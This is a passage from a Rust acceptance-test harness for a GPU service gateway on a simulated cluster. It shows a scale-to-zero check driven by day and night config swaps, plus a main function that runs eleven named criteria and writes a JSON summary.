            "[[services]]\nname = \"{name}\"\njob_template = \"gpus=1 cold_start=60\"\nmin_instances = {min}\nmax_instances = 2\nwalltime_seconds = 7200\nrenewal_margin_seconds = 600\n"
        )
    };
    let day = dir.join("day.toml");
    let night = dir.join("night.toml");
    std::fs::write(&day, format!("{}\n{}", service("a", 1), service("b", 1))).unwrap();
    std::fs::write(&night, format!("{}\n{}", service("a", 0), service("b", 0))).unwrap();
    let tick_s = 10.0;
    let scenario = Scenario {
        topology: Topology {
            nodes: 2,
            gpus_per_node: 4,
            scheduling_delay_s: delay_s,
        },
        run: RunSection {
            duration_s: 16 * HOUR_S,
            tick_s,
            start_s: 18 * HOUR_S,
            seed: 11,
        },
        services: Vec::new(),
        schedule: vec![
            ScheduleSpec {
                at: "08:00".into(),
                services: day,
            },
            ScheduleSpec {
                at: "20:00".into(),
                services: night,
            },
        ],
        load: Vec::new(),
        faults: Vec::new(),
        base_dir: PathBuf::new(),
    };
    let mut run = match ScenarioRun::new(&scenario, &dir.join("state")) {
        Ok(r) => r,
        Err(e) => return Verdict::new(false, e),
    };
    run.run_to_end();
    let report = run.report();

    let evening_ms = 20 * HOUR_S * 1000;
    let morning_ms = 32 * HOUR_S * 1000;
    let live = |t: &hpcgate::simcluster::TickSample| t.services.values().map(|s| s.live_jobs).sum::<u32>();
    let ready_all = |t: &hpcgate::simcluster::TickSample| ["a", "b"].iter().all(|s| t.services.get(*s).is_some_and(|v| v.ready >= 1));
    let day_ok = report.ticks.iter().any(|t| t.at_ms < evening_ms && ready_all(t));
    let zero_at = report
        .ticks
        .iter()
        .find(|t| t.at_ms > evening_ms && t.at_ms < morning_ms && live(t) == 0)
        .map(|t| t.at_ms);
    let stays_zero = zero_at.is_some_and(|z| {
        report
            .ticks
            .iter()
            .filter(|t| t.at_ms >= z && t.at_ms < morning_ms)
            .all(|t| live(t) == 0)
    });
    let cancellations = report
        .events
        .iter()
        .filter(|e| matches!(e, SimEvent::Cancelled { .. }))
        .count();
    let restored = report
        .ticks
        .iter()
        .find(|t| t.at_ms >= morning_ms && ready_all(t))
        .map(|t| t.at_ms - morning_ms);
    let budget_ms = ((delay_s + 60.0 + 2.0 * tick_s) * 1000.0) as u64;
    let pass = day_ok
        && stays_zero
        && cancellations == 0
        && restored.is_some_and(|r| r <= budget_ms)
        && report.errors.is_empty();
    let clock = |ms: u64| format!("{:02}:{:02}", ms / 3_600_000 % 24, ms / 60_000 % 60);
    Verdict::new(
        pass,
        format!(
            "zero from {} to 08:00, {cancellations} cancellations, restored {} after 08:00 (budget {} s), errors {:?}",
            zero_at.map_or("never".into(), clock),
            restored.map_or("never".into(), |r| format!("{:.0} s", r as f64 / 1000.0)),
            budget_ms / 1000,
            report.errors.iter().take(3).collect::<Vec<_>>()
        ),
    )
}

type Criterion = fn(&mut Ctx) -> Verdict;

fn main() {
    let picked: Vec<u32> = std::env::args().skip(1).filter_map(|a| a.parse().ok()).collect();
    let criteria: [(u32, &str, Criterion); 11] = [
        (1, "latency breakdown", c1_latency),
        (2, "throughput", c2_throughput),
        (3, "bottleneck", c3_bottleneck),
        (4, "reconnect liveness", c4_reconnect),
        (5, "autoscaling oracle", c5_oracle),
        (6, "scale-down by expiry", c6_scale_down),
        (7, "injection containment", c7_injection),
        (8, "port uniqueness and lock", c8_ports_and_lock),
        (9, "load-balancing uniformity", c9_balance),
        (10, "privacy by non-storage", c10_privacy),
        (11, "config-swap scale-to-zero", c11_config_swap),
    ];
    let root = tempfile::tempdir().expect("scratch directory");
    let mut ctx = Ctx {
        root: root.path().to_path_buf(),
        rt: tokio::runtime::Builder::new_multi_thread().enable_all().build().expect("runtime"),
        stack: None,
    };
    let mut failed = 0;
    let mut summary = Vec::new();
    for (id, name, run) in criteria {
        if !picked.is_empty() && !picked.contains(&id) {
            continue;
        }
        if id == 5 {
            // the stack is done; stop it before the long virtual-time runs
            if let Some((stack, _)) = ctx.stack.take() {
                ctx.rt.block_on(stack.shutdown());
            }
        }
        let started = Instant::now();
        let v = run(&mut ctx);
        let secs = started.elapsed().as_secs_f64();
        if !v.pass {
            failed += 1;
        }
        println!(
            "criterion {id:>2} {:<27} {}  ({secs:.1} s) {}",
            name,
            if v.pass { "PASS" } else { "FAIL" },
            v.detail
        );
        let _ = std::io::stdout().flush();
        summary.push(serde_json::json!({"criterion": id, "name": name, "pass": v.pass, "seconds": secs, "detail": v.detail}));
    }
    if let Some((stack, _)) = ctx.stack.take() {
        ctx.rt.block_on(stack.shutdown());
    }
    let out = Path::new(env!("CARGO_TARGET_TMPDIR")).join("acceptance.json");
    let _ = std::fs::write(&out, serde_json::to_string_pretty(&summary).unwrap_or_default());
    println!("acceptance: {} run, {failed} failed; summary in {}", summary.len(), out.display());
    drop(ctx);
    drop(root);
    if failed > 0 {
        std::process::exit(1);
    }
}
